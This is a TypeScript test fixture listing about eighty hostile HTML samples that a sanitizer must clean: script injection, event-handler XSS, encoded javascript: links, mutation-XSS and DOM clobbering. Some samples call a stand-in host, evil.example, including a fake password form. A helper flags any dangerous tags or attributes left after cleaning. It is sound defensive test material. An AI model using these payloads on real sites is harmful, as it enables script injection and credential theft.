/**
 * Html that attacks: scripts, handlers, styles, requests to strangers, clobbered names, broken nesting that
 * mutates when it is parsed twice. Both sides clean it, the network and the panel; `hazardsIn` says what is left.
 * Each entry holds the word `kept` where text of it has to survive.
 */
export const hostileHtml: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<p>kept</p><script>window.hacked=1</script>'],
  ['a script in capitals', '<p>kept</p><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'],
  ['a script without an end', '<p>kept</p><script>window.hacked=1'],
  ['a script in a script', '<p>kept</p><scr<script>ipt>window.hacked=1</scr</script>ipt>'],
  ['a module', '<p>kept</p><script type="module">import "https://evil.example/x.js"</script>'],
  ['a picture that fails on purpose', '<p>kept<img src=x onerror="window.hacked=1"></p>'],
  ['a picture with its handler in capitals', '<p>kept<IMG SRC=x OnErRoR=window.hacked=1></p>'],
  ['a picture with a slash for a space', '<p>kept<img/src=x/onerror=window.hacked=1></p>'],
  ['a picture without quotes at its end', '<p>kept<img src="x` `<script>window.hacked=1</script>"` `></p>'],
  ['a picture of a stranger', '<p>kept<img src="https://evil.example/pixel.gif"></p>'],
  ['a picture without a scheme', '<p>kept<img src="//evil.example/pixel.gif"></p>'],
  ['a picture by srcset', '<p>kept<img srcset="https://evil.example/pixel.gif 1x" src=""></p>'],
  ['a picture as data', '<p>kept<img src="data:image/svg+xml,<svg onload=window.hacked=1>"></p>'],
  ['a picture up the path', '<p>kept<img src="/publisher/api/cdn/../logout"></p>'],
  ['a call disguised as a picture', '<p>kept<img src="/publisher/api/announcements/mark_read"></p>'],
  [
    'picture and sources',
    '<p>kept</p><picture><source srcset="https://evil.example/a"><img src=x></picture>',
  ],
  ['a link that is a script', '<p><a href="javascript:window.hacked=1">kept</a></p>'],
  ['a link with a tab in its scheme', '<p><a href="java&#9;script:window.hacked=1">kept</a></p>'],
  ['a link with a line break in its scheme', '<p><a href="java&#10;script:window.hacked=1">kept</a></p>'],
  ['a link in entities', '<p><a href="&#106;avascript&colon;window.hacked=1">kept</a></p>'],
  ['a link behind a control sign', '<p><a href="&#1;javascript:window.hacked=1">kept</a></p>'],
  ['a link that is data', '<p><a href="data:text/html,<script>window.hacked=1</script>">kept</a></p>'],
  ['a link in VBScript', '<p><a href="vbscript:msgbox(1)">kept</a></p>'],
  ['a link that logs out', '<p><a href="/publisher/logout">kept</a></p>'],
  ['a link with backslashes', '<p><a href="/\\evil.example">kept</a></p>'],
  ['a link that pings', '<p><a href="https://example.com" ping="https://evil.example/p">kept</a></p>'],
  [
    'a link that opens over us',
    '<p><a href="https://example.com" target="_top" onclick="hacked=1">kept</a></p>',
  ],
  ['a link in svg', '<p>kept</p><svg><a xlink:href="javascript:window.hacked=1"><text>x</text></a></svg>'],
  ['a link in MathML', '<p>kept</p><math><mtext href="javascript:window.hacked=1">x</mtext></math>'],
  ['svg that loads', '<p>kept</p><svg onload="window.hacked=1"></svg>'],
  ['a script in svg', '<p>kept</p><svg><script>window.hacked=1</script></svg>'],
  [
    'svg that animates a link',
    '<p>kept</p><svg><animate attributeName=href values=javascript:hacked=1 /></svg>',
  ],
  ['svg that uses a stranger', '<p>kept</p><svg><use href="https://evil.example/x.svg#a"/></svg>'],
  ['html inside svg', '<p>kept</p><svg><foreignObject><img src=x onerror=hacked=1></foreignObject></svg>'],
  ['a style sheet', '<p>kept</p><style>@import "https://evil.example/x.css"; body{display:none}</style>'],
  ['a style', '<p style="background:url(https://evil.example/p.gif)">kept</p>'],
  ['a style over everything', '<p style="position:fixed;inset:0;z-index:9999">kept</p>'],
  ['a linked style sheet', '<p>kept</p><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a prefetch', '<p>kept</p><link rel="dns-prefetch" href="https://evil.example">'],
  [
    'a style that ends in a picture',
    '<p>kept</p><style><img src="</style><img src=x onerror=hacked=1//"></style>',
  ],
  ['a frame', '<p>kept</p><iframe src="https://evil.example"></iframe>'],
  ['a frame with a page in it', '<p>kept</p><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>'],
  ['an object', '<p>kept</p><object data="https://evil.example/x.swf"></object>'],
  ['an embed', '<p>kept</p><embed src="https://evil.example/x.swf">'],
  ['an applet', '<p>kept</p><applet code="x" archive="https://evil.example/x.jar"></applet>'],
  [
    'a form',
    '<p>kept</p><form action="https://evil.example"><input name=password><button>Log in</button></form>',
  ],
  ['a button with an address', '<p>kept</p><button formaction="javascript:window.hacked=1">x</button>'],
  ['a field that takes the focus', '<p>kept</p><input autofocus onfocus="window.hacked=1">'],
  [
    'an editable with focus',
    '<p>kept</p><div contenteditable tabindex=0 autofocus onfocus="hacked=1">x</div>',
  ],
  ['a base', '<base href="https://evil.example/"><p>kept</p>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>kept</p>'],
  ['a policy', '<meta http-equiv="Content-Security-Policy" content="img-src *"><p>kept</p>'],
  ['a body with a handler', '<body onload="window.hacked=1"><p>kept</p></body>'],
  [
    'a video',
    '<p>kept</p><video poster="https://evil.example/p.gif"><source src=x onerror=hacked=1></video>',
  ],
  ['a sound', '<p>kept</p><audio src="https://evil.example/x.mp3" autoplay oncanplay="hacked=1"></audio>'],
  ['details that open', '<p>kept</p><details open ontoggle="window.hacked=1">x</details>'],
  ['a marquee', '<p>kept</p><marquee onstart="window.hacked=1">x</marquee>'],
  ['a template', '<p>kept</p><template><img src=x onerror="window.hacked=1"></template>'],
  ['noscript', '<p>kept</p><noscript><p title="</noscript><img src=x onerror=window.hacked=1>"></noscript>'],
  ['noembed', '<p>kept</p><noembed><img title="</noembed><img src=x onerror=window.hacked=1>"></noembed>'],
  ['a title that ends early', '<p>kept</p><title><img title="</title><img src=x onerror=hacked=1>"></title>'],
  [
    'a textarea that ends early',
    '<p>kept</p><textarea><img title="</textarea><img src=x onerror=hacked=1>"></textarea>',
  ],
  [
    'MathML that mutates',
    '<p>kept</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked=1&gt;">',
  ],
  ['svg that mutates', '<p>kept</p><svg></p><style><a id="</style><img src=1 onerror=hacked=1>">'],
  [
    'a form that mutates',
    '<p>kept</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>',
  ],
  ['a comment that ends early', '<p>kept</p><!--><img src=x onerror=window.hacked=1>-->'],
  ['a conditional comment', '<p>kept</p><!--[if gte IE 4]><script>window.hacked=1</script><![endif]-->'],
  ['CDATA', '<p>kept</p><![CDATA[><img src=x onerror=window.hacked=1>]]>'],
  ['an XML instruction', '<?xml-stylesheet href="https://evil.example/x.css"?><p>kept</p>'],
  ['a name that hides the document’s', '<p id="cookie" name="createElement">kept</p><img name="body" src=x>'],
  [
    'a form that hides its own attributes',
    '<p>kept</p><form><input name="attributes"><input name="parentNode"></form>',
  ],
  [
    'a custom element',
    '<p>kept</p><p is="x-evil" slot="y">x</p><x-evil onclick="window.hacked=1">x</x-evil>',
  ],
  ['classes of ours', '<p class="auth-card visually-hidden" data-mantine-color-scheme="dark">kept</p>'],
  [
    'roles and live regions',
    '<p role="alert" aria-live="assertive" aria-label="You are logged out">kept</p>',
  ],
  [
    'a background',
    '<table background="https://evil.example/p.gif"><tr><td background="//evil.example">kept</td></tr></table>',
  ],
  ['a citation', '<blockquote cite="javascript:window.hacked=1">kept</blockquote>'],
  ['a lost tag', '<p>kept<img src=x onerror=window.hacked=1'],
  ['a zero', '<p>kept<scr\0ipt>window.hacked=1</scr\0ipt></p>'],
  ['deep nesting', `<p>kept</p>${'<b>'.repeat(600)}x${'</b>'.repeat(600)}`],
];

/** A node of a page, as far as it is looked at; `Element` of any DOM is one. */
interface Looked {
  readonly localName: string;
  readonly namespaceURI: string | null;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}

const dangerous =
  /^(?:script|style|link|meta|base|iframe|frame|object|embed|applet|form|input|button|select|textarea|svg|math|template|video|audio|source|picture|noscript|portal|dialog|details)$/;
const harmless = new Set([
  'href',
  'src',
  'alt',
  'title',
  'width',
  'height',
  'start',
  'reversed',
  'colspan',
  'rowspan',
  'scope',
  'datetime',
  'target',
  'rel',
  'loading',
  'decoding',
]);

/** What an element could still do: run, style, ask a stranger, hide a name. None of it may be left. */
export function hazardsIn({ localName, namespaceURI, attributes }: Looked): string[] {
  const tag =
    dangerous.test(localName) || namespaceURI !== 'http://www.w3.org/1999/xhtml' ? [`<${localName}>`] : [];
  const rest = [...attributes].flatMap(({ name, value }) => {
    if (!harmless.has(name)) return [`${name}="${value}"`];
    if (name === 'src') return /^\/publisher\/api\/cdn\/[\w-]+\.\w+$/.test(value) ? [] : [`src="${value}"`];
    if (name !== 'href') return [];
    const leadsOut = /^(?:https?:\/\/[a-z]|mailto:|tel:)/i.test(value);
    const leadsIn = /^\/publisher\/(?!logout|api|frame)/i.test(value);
    return leadsOut || leadsIn ? [] : [`href="${value}"`];
  });
  return [...tag, ...rest];
}
